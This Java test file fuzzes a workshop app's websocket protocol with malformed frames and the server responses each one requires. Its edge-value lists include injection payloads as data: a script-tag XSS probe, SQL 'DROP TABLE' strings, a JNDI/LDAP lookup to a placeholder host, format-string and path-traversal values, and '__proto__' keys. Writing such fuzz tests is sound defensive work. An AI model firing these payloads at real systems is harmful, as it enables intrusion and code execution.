package org.commonground.resilience;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Random and malformed client frames from a seeded {@link Random}, each with what docs/protocol.md says
 * must come back. Text frames are Java strings, so invalid UTF-8 cannot be sent (the client library
 * encodes every frame as valid UTF-8); lone surrogates (as JSON escapes, the only way they survive the
 * trip) and control characters stand in for broken text.
 */
final class FrameFuzzer {
  /** What a frame must be answered with. */
  enum Answer {
    /** one err with ref null, code INVALID */
    NULL_ERR,
    /** one ack or err carrying the frame's ref */
    REF,
    /** one err, with ref null or the frame's ref (a frame too deep for the parser to read its ref) */
    REF_OR_NULL_ERR,
    /** one pong */
    PONG,
    /** the connection closed with 1009 */
    CLOSE_TOO_LARGE
  }

  /** One frame to send; {@code code} is the err code it must get when that is certain, else null. */
  record Frame(String text, Answer answer, String ref, String code, String name, boolean command, boolean reused) {
    Frame(String text, Answer answer, String ref, String code, String name, boolean command) {
      this(text, answer, ref, code, name, command, false);
    }
  }

  static final int MAX_FRAME_BYTES = 16 * 1024;

  static final List<String> COMMANDS = List.of("contribution.add", "contribution.edit", "contribution.withdraw",
      "contribution.hide", "contribution.unhide", "contribution.move", "reaction.toggle", "theme.create", "theme.rename",
      "theme.delete", "theme.merge", "themes.suggest", "themes.accept", "vote.cast", "vote.retract", "poll.open",
      "poll.answer", "poll.close", "hand.raise", "hand.lower", "hand.next", "ready.set", "phase.start", "phase.next",
      "phase.prev", "phase.goto", "timer.pause", "timer.resume", "timer.extend", "parking.update", "spotlight.set",
      "participant.remove", "workshop.update", "workshop.end", "contribution.park", "floor.give");

  private final Random rnd;
  /** Ids of the target workshop, and ids only the other workshop has. */
  private final List<String> ownIds;
  private final List<String> foreignIds;
  /** Participant ids never removed (the fuzz's own actors), so the run keeps its voices. */
  private final List<String> protectedIds;
  private final List<String> tokens;
  private final Map<String, String> raws = new LinkedHashMap<>();
  private int refs;

  FrameFuzzer(Random rnd, List<String> ownIds, List<String> foreignIds, List<String> protectedIds, List<String> tokens) {
    this.rnd = rnd;
    this.ownIds = ownIds;
    this.foreignIds = foreignIds;
    this.protectedIds = protectedIds;
    this.tokens = tokens;
  }

  private <T> T pick(List<T> xs) { return xs.get(rnd.nextInt(xs.size())); }

  private boolean chance(double p) { return rnd.nextDouble() < p; }

  String freshRef(String prefix) {
    return prefix + "-" + (++refs) + "-" + Integer.toString(rnd.nextInt(1 << 20), 36);
  }

  // ------------------------------------------------------------------ values

  private static final List<String> WORDS = List.of("access", "waiting", "carers", "respite", "trust", "language",
      "transport", "listening", "money", "time", "choice", "dignity", "housing", "family", "peer", "support");

  String phrase() {
    int n = 1 + rnd.nextInt(6);
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < n; i++) b.append(i == 0 ? "" : " ").append(pick(WORDS));
    return b.toString();
  }

  String id() {
    double r = rnd.nextDouble();
    if (r < 0.45) return pick(ownIds);
    if (r < 0.8) return pick(foreignIds);
    return pick(List.of("", " ", "c0", "c-1", "C1", "c1 ", " t1", "c99999999999999999999", "../c1", "c1\u0000",
        "q\ud800", "t1;DROP TABLE", "ç1", "1", "null", "undefined", "__proto__", "p1\n", "x".repeat(2000)));
  }

  String edgeString() {
    return switch (rnd.nextInt(22)) {
      case 0 -> "";
      case 1 -> "   ";
      case 2 -> "\t\n\r";
      case 3 -> "a".repeat(1000);
      case 4 -> "b".repeat(1001);
      case 5 -> "x".repeat(5000);
      case 6 -> "y".repeat(12_000);
      case 7 -> "\u0000\u0001\u0007\u001b[2J\u007f";
      case 8 -> "\ud800";
      case 9 -> "lone \udc00 low";
      case 10 -> "\udbff\udbff";
      case 11 -> "\uD83C\uDF75 tea";
      case 12 -> "\u202eright to left";
      case 13 -> "\u200b\u200b";
      case 14 -> "<script>alert(1)</script>";
      case 15 -> "'; DROP TABLE workshops; --";
      case 16 -> "${jndi:ldap://example.invalid/x}";
      case 17 -> "%s%n%x";
      case 18 -> "\u00c6\u00d8\u00c5 \u00e7 \u6f22\u5b57";
      case 19 -> id();
      default -> phrase();
    };
  }

  /** A placeholder for a literal that JsonObject cannot write (huge or odd numbers, deep nesting). */
  private String raw(String literal) {
    String key = "@@RAW" + raws.size() + "@@";
    raws.put(key, literal);
    return key;
  }

  Object edgeNumber() {
    return switch (rnd.nextInt(16)) {
      case 0 -> 0;
      case 1 -> -1;
      case 2 -> 1;
      case 3 -> 2;
      case 4 -> Integer.MAX_VALUE;
      case 5 -> Integer.MIN_VALUE;
      case 6 -> Long.MAX_VALUE;
      case 7 -> BigInteger.ONE.shiftLeft(63); // 2^63
      case 8 -> raw("-9223372036854775809");
      case 9 -> raw("1e308");
      case 10 -> raw("-1e308");
      case 11 -> raw("1E400");
      case 12 -> raw("1e-400");
      case 13 -> raw("3.0");
      case 14 -> raw("-0");
      default -> raw("123456789012345678901234567890");
    };
  }

  private static String nested(int depth) { return "[".repeat(depth) + "]".repeat(depth); }

  Object value() {
    return switch (rnd.nextInt(10)) {
      case 0, 1, 2 -> edgeString();
      case 3, 4 -> edgeNumber();
      case 5 -> rnd.nextBoolean();
      case 6 -> null;
      case 7 -> new JsonArray().add(id()).add(edgeNumber());
      case 8 -> new JsonObject().put("nested", edgeString());
      default -> raw(nested(2 + rnd.nextInt(60)));
    };
  }

  // ------------------------------------------------------------------ commands

  /** A well-formed args object for a command, with ids from the pools. */
  JsonObject validArgs(String name) {
    JsonObject a = new JsonObject();
    switch (name) {
      case "contribution.add" -> {
        a.put("text", phrase());
        if (chance(0.3)) a.put("kind", pick(List.of("idea", "story", "question", "takeaway", "parking")));
        if (chance(0.2)) a.put("anonymous", rnd.nextBoolean());
        if (chance(0.1)) a.put("onBehalfOf", new JsonObject().put("name", "Scribed").put("group", "carers"));
      }
      case "contribution.edit" -> a.put("id", id()).put("text", phrase());
      case "contribution.withdraw", "contribution.unhide", "contribution.park", "theme.delete", "poll.close" -> a.put("id", id());
      case "floor.give" -> a.put("participantId", id());
      case "hand.lower" -> {
        if (chance(0.3)) a.put("participantId", id());
      }
      case "contribution.hide" -> a.put("id", id()).put("reason", phrase());
      case "contribution.move" -> a.put("id", id()).put("themeId", chance(0.2) ? null : id());
      case "reaction.toggle" -> a.put("contributionId", id()).put("reaction", pick(List.of("agree", "heart", "insight", "question")));
      case "theme.create" -> a.put("label", phrase()).put("contributionIds", new JsonArray().add(id()).add(id()));
      case "theme.rename" -> a.put("id", id()).put("label", phrase());
      case "theme.merge" -> a.put("ids", new JsonArray().add(id()).add(id())).put("label", phrase());
      case "themes.suggest" -> {
        if (chance(0.5)) a.put("phase", rnd.nextInt(3));
      }
      case "themes.accept" -> {
        if (chance(0.3)) a.put("indexes", new JsonArray().add(rnd.nextInt(3)));
        else if (chance(0.5)) a.put("ids", new JsonArray().add("s" + rnd.nextInt(6)));
      }
      case "vote.cast", "vote.retract" -> a.put("targetId", id());
      case "poll.open" -> {
        if (chance(0.5)) a.put("template", "ladder");
        else a.put("question", phrase()).put("options", new JsonArray().add(phrase()).add(phrase()));
      }
      case "poll.answer" -> a.put("pollId", id()).put("option", rnd.nextInt(8));
      case "ready.set" -> a.put("ready", rnd.nextBoolean());
      case "phase.next", "phase.prev" -> {
        if (chance(0.5)) a.put("from", rnd.nextInt(4) - 1);
      }
      case "phase.goto" -> a.put("index", rnd.nextInt(4));
      case "timer.extend" -> a.put("seconds", rnd.nextInt(4200) - 600);
      case "parking.update" -> a.put("id", id()).put("status", pick(List.of("open", "revisited", "handed-on")))
          .put("owner", phrase());
      case "spotlight.set" -> {
        if (chance(0.8)) a.put("type", pick(List.of("contribution", "theme", "poll"))).put("id", id());
      }
      case "participant.remove" -> a.put("id", id());
      case "workshop.update" -> {
        if (chance(0.5)) a.put("title", phrase());
        if (chance(0.5)) {
          a.put("settings", new JsonObject().put(pick(List.of("anonymity", "votesPerParticipant", "minGroupSize", "confidential",
              "themeEditing")), pick(List.<Object>of("always", "optional", 3, 7, true, false, "everyone", "facilitators"))));
        }
      }
      default -> { }
    }
    return a;
  }

  /** 0 to 3 random changes to an args object: a field retyped, dropped, or a stranger added. */
  JsonObject mutate(JsonObject args) {
    int n = chance(0.35) ? 0 : chance(0.55) ? 1 : 2 + rnd.nextInt(2);
    for (int i = 0; i < n; i++) {
      List<String> fields = new ArrayList<>(args.fieldNames());
      int op = rnd.nextInt(4);
      if (op == 0 && !fields.isEmpty()) {
        args.put(pick(fields), value());
      } else if (op == 1 && !fields.isEmpty()) {
        args.remove(pick(fields));
      } else if (op == 2) {
        args.put(pick(List.of("junk", "__proto__", "constructor", "t", "ref", "args", "personalDataOk", "\u0000", "")), value());
      } else if (!fields.isEmpty()) {
        args.put(pick(fields), chance(0.5) ? edgeNumber() : edgeString());
      }
    }
    return args;
  }

  /** Keeps the run's own people in the workshop and the workshop open: those would end the run, not test it. */
  private String tame(String name, JsonObject args, boolean facilitator) {
    if (facilitator && name.equals("workshop.end")) return "phase.goto";
    if (name.equals("participant.remove") && args.getValue("id") instanceof String id && protectedIds.contains(id)) {
      args.put("id", pick(foreignIds));
    }
    return name;
  }

  // ------------------------------------------------------------------ frames

  private String render(JsonObject frame) {
    String text = frame.encode();
    for (Map.Entry<String, String> e : raws.entrySet()) text = text.replace("\"" + e.getKey() + "\"", e.getValue());
    raws.clear();
    return escapeLoneSurrogates(text);
  }

  /** JSON-escapes unpaired surrogates, so they reach the server's parser instead of becoming '?' on the wire. */
  static String escapeLoneSurrogates(String s) {
    StringBuilder b = new StringBuilder(s.length());
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      boolean paired = Character.isHighSurrogate(c) ? i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))
          : Character.isLowSurrogate(c) && i > 0 && Character.isHighSurrogate(s.charAt(i - 1));
      if (Character.isSurrogate(c) && !paired) b.append(String.format("\\u%04x", (int) c));
      else b.append(c);
    }
    return b.toString();
  }

  static int bytes(String text) { return text.getBytes(StandardCharsets.UTF_8).length; }

  private static JsonObject cmd(Object ref, Object name, Object args) {
    return new JsonObject().put("t", "cmd").put("ref", ref).put("name", name).put("args", args);
  }

  /**
   * The next frame for a live connection. {@code commandsLeft}: commands this connection may still send
   * within its rate limit; {@code reusable}: refs this sender had acknowledged, for a different command
   * under one of them (which must never be applied).
   */
  Frame next(boolean display, boolean facilitator, int commandsLeft, List<String> reusable) {
    while (true) {
      Frame f = candidate(display, facilitator, commandsLeft > 0, reusable);
      if (f.answer() == Answer.CLOSE_TOO_LARGE || bytes(f.text()) <= MAX_FRAME_BYTES) return f;
    }
  }

  private Frame candidate(boolean display, boolean facilitator, boolean mayCommand, List<String> reusable) {
    int kind = rnd.nextInt(100);
    if (!mayCommand && kind >= 30) kind = rnd.nextInt(30);
    if (kind < 8) return junk();
    if (kind < 14) return badType();
    if (kind < 20) return unusableRef();
    if (kind < 24) return ping();
    if (kind < 30) return secondHello();
    String ref = freshRef("f");
    if (kind < 34) {
      Object name = pick(java.util.Arrays.asList(null, 42, new JsonArray().add("contribution.add"), new JsonObject(), true));
      return new Frame(render(cmd(ref, name, new JsonObject())), Answer.REF, ref, "INVALID", null, true);
    }
    if (kind < 38) {
      Object args = pick(List.of("text please", 7, new JsonArray().add("a"), false));
      return new Frame(render(cmd(ref, pick(COMMANDS), args)), Answer.REF, ref, "INVALID", null, true);
    }
    if (kind < 42) {
      String name = pick(List.of("contribution.explode", "CONTRIBUTION.ADD", "", " hand.raise", "phase.next\u0000", "admin.grant",
          "workshop.delete", "constructor", "toString", "\ud800"));
      return new Frame(render(cmd(ref, name, validArgs("contribution.add"))), Answer.REF, ref,
          display ? "FORBIDDEN" : "UNKNOWN_COMMAND", name, true);
    }
    if (kind < 45) return deepCommand(ref);
    if (kind < 50 && !reusable.isEmpty() && !display) {
      String again = pick(reusable);
      String name = pick(COMMANDS);
      JsonObject args = validArgs(name);
      name = tame(name, args, facilitator);
      return new Frame(render(cmd(again, name, args)), Answer.REF, again, null, name, true, true);
    }
    String name = pick(COMMANDS);
    JsonObject args = mutate(validArgs(name));
    name = tame(name, args, facilitator);
    Object sentArgs = chance(0.05) ? null : args;
    return new Frame(render(cmd(ref, name, sentArgs)), Answer.REF, ref, display ? "FORBIDDEN" : null, name, true);
  }

  Frame junk() {
    String text = switch (rnd.nextInt(14)) {
      case 0 -> "";
      case 1 -> "null";
      case 2 -> "42";
      case 3 -> "[1,2,3]";
      case 4 -> "\"just a string\"";
      case 5 -> "{";
      case 6 -> "{\"t\":\"cmd\",\"ref\":\"unfinished\"";
      case 7 -> "}{";
      case 8 -> "{\"t\":\"ping\"}{\"t\":\"ping\"}";
      case 9 -> "[".repeat(10_000);
      case 10 -> "{\"t\":\"ping\",\"x\":" + "{\"a\":".repeat(3_000);
      case 11 -> "\u0000\u0001\u0002\u001b[0m";
      case 12 -> escapeLoneSurrogates("\ud800\udc00\udbff junk");
      default -> phrase();
    };
    return new Frame(text, Answer.NULL_ERR, null, "INVALID", null, false);
  }

  Frame badType() {
    Object t = pick(java.util.Arrays.asList(null, 5, true, new JsonArray().add("cmd"), new JsonObject().put("t", "cmd"), "CMD",
        "teleport", "", "welcome", "ev", "ack", "\ud800"));
    JsonObject o = new JsonObject();
    if (chance(0.85)) o.put("t", t);
    o.put("ref", freshRef("bt")).put("name", "hand.raise");
    return new Frame(render(o), Answer.NULL_ERR, null, "INVALID", null, false);
  }

  Frame unusableRef() {
    JsonObject o = new JsonObject().put("t", "cmd").put("name", "hand.raise").put("args", new JsonObject());
    int k = rnd.nextInt(7);
    switch (k) {
      case 0 -> { }
      case 1 -> o.put("ref", "");
      case 2 -> o.put("ref", 17);
      case 3 -> o.put("ref", (Object) null);
      case 4 -> o.put("ref", "r".repeat(65 + rnd.nextInt(1000)));
      case 5 -> o.put("ref", new JsonObject().put("ref", "inner"));
      default -> o.put("ref", new JsonArray().add("r1"));
    }
    return new Frame(render(o), Answer.NULL_ERR, null, "INVALID", null, false);
  }

  Frame ping() {
    JsonObject o = new JsonObject().put("t", "ping");
    if (chance(0.3)) o.put("junk", value());
    return new Frame(render(o), Answer.PONG, null, null, null, false);
  }

  Frame secondHello() {
    JsonObject o = new JsonObject().put("t", "hello");
    switch (rnd.nextInt(5)) {
      case 0 -> o.put("token", pick(tokens));
      case 1 -> o.put("token", pick(tokens)).put("resume", new JsonObject().put("epoch", "e").put("seq", edgeNumber()));
      case 2 -> o.put("token", 12345);
      case 3 -> o.put("token", edgeString());
      default -> { }
    }
    return new Frame(render(o), Answer.NULL_ERR, null, "INVALID", null, false);
  }

  /** A command whose args nest deeper than any parser should follow (the frame still within 16 KiB). */
  Frame deepCommand(String ref) {
    int depth = pick(List.of(1_500, 5_000, 7_000));
    String text = "{\"t\":\"cmd\",\"ref\":\"" + ref + "\",\"name\":\"hand.raise\",\"args\":{\"x\":" + nested(depth) + "}}";
    return new Frame(text, Answer.REF_OR_NULL_ERR, ref, "INVALID", "hand.raise", true);
  }

  /** A frame over 16 KiB (a long text, or 10,000 nested arrays): the connection closes with 1009. */
  Frame oversized() {
    String ref = freshRef("big");
    String text = chance(0.5)
        ? render(cmd(ref, "contribution.add", new JsonObject().put("text", "z".repeat(MAX_FRAME_BYTES + 1 + rnd.nextInt(5_000)))))
        : "{\"t\":\"cmd\",\"ref\":\"" + ref + "\",\"name\":\"hand.raise\",\"args\":{\"x\":" + nested(10_000) + "}}";
    return new Frame(text, Answer.CLOSE_TOO_LARGE, ref, null, "contribution.add", true);
  }

  /** Before hello: a command is refused under its ref, anything else unreadable as ref null. */
  Frame beforeHello() {
    if (chance(0.5)) {
      String ref = freshRef("early");
      return new Frame(render(cmd(ref, "contribution.add", validArgs("contribution.add"))), Answer.REF, ref, "INVALID",
          "contribution.add", false);
    }
    return chance(0.5) ? junk() : ping();
  }
}
